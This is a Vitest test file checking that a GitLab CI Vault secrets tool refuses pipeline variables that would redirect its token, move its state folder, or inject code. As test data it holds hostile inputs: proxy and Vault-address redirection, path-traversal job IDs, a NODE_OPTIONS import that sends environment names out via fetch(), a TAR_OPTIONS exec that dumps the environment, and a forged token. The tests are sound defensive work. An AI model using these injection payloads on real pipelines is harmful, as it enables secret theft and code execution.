import { createServer } from 'node:http'
import { expect, test } from 'vitest'
import { expectClean, type GitlabWorld, inGitlabWorld, leftBehind } from '../support/gitlab-world.ts'
import { listen } from '../support/listen.ts'

/** A server that a person who starts a pipeline can name. It records what it must not get. */
async function withEavesdropper(scenario: (world: GitlabWorld, url: string, heard: string[]) => Promise<void>) {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    request.resume().on('end', () => response.end('{}'))
  })
  const { url, close } = await listen(server)
  try {
    await inGitlabWorld('vault', (world) => scenario(world, url, heard))
  } finally {
    await close()
  }
}

test('variables that name another server, role or identity are not read: the token goes where the template says', async () => {
  await withEavesdropper(async (world, url, heard) => {
    const variables = {
      VAULT_ADDR: url,
      VAULT_TOKEN: 'token-of-somebody',
      VAULT_NAMESPACE: 'mallory',
      HTTPS_PROXY: url,
      HTTP_PROXY: url,
      http_proxy: url,
      https_proxy: url,
      ALL_PROXY: url,
      url,
      role: 'root',
      mayfly: '/elsewhere',
      archive: '/elsewhere.tar',
      node: '/elsewhere/node',
      AFTER_SCRIPT_IGNORE_ERRORS: 'true',
    }
    const job = await world.use('printenv PASSWORD >"$MARKS/value"', { variables })
    expect([job.status, heard]).toEqual(['success', []])
    expect(job.marks.value).toBe('p4ss-of-the-static-app\n')
    expectClean(job, world)
  })
})

test.each(['MAYFLY_URL', 'MAYFLY_ROLE', 'MAYFLY_STATE_DIR', 'MAYFLY_AUDIENCE'])(
  '%s would look like an endpoint, a principal or a folder: the job refuses',
  async (name) => {
    await withEavesdropper(async (world, url, heard) => {
      const job = await world.use('touch "$MARKS/script"', { variables: { [name]: url } })
      expect([job.status, job.marks, heard, world.traffic()]).toEqual(['failed', {}, [], []])
      expect(job.log).toContain(name)
      expect(leftBehind(job)).toEqual([])
    })
  },
)

test.each(['', 'x', '1/../../../api/public', '4711 /etc'])(
  'CI_JOB_ID=%j would move the state folder: the job refuses',
  async (id) => {
    await withEavesdropper(async (world) => {
      const job = await world.use('touch "$MARKS/script"', { variables: { CI_JOB_ID: id } })
      expect([job.status, job.marks, world.traffic()]).toEqual(['failed', {}, []])
      expect(job.log).toContain('mayfly: CI_JOB_ID is not a number')
      expect(leftBehind(job)).toEqual([])
    })
  },
)

test('NODE_OPTIONS and TAR_OPTIONS do not reach the program that holds the token', async () => {
  await withEavesdropper(async (world, url, heard) => {
    const code = `fetch('${url}/node?' + Object.keys(process.env))`
    const job = await world.use('true', {
      variables: {
        NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(code)}`,
        TAR_OPTIONS: '--checkpoint=1 --checkpoint-action=exec=env>$MARKS/tar',
      },
    })
    expect([job.status, job.marks, heard, world.double.live()]).toEqual(['success', {}, [], 0])
  })
})

test('a token that somebody puts in the place of the job’s own is only their own', async () => {
  await withEavesdropper(async (world) => {
    const forged = await world.issuer.forge('https://vault.example')
    const job = await world.use('touch "$MARKS/script"', { variables: { MAYFLY_ID_TOKEN_VAULT: forged } })
    expect([job.status, job.marks, world.double.live()]).toEqual(['failed', {}, 0])
  })
})
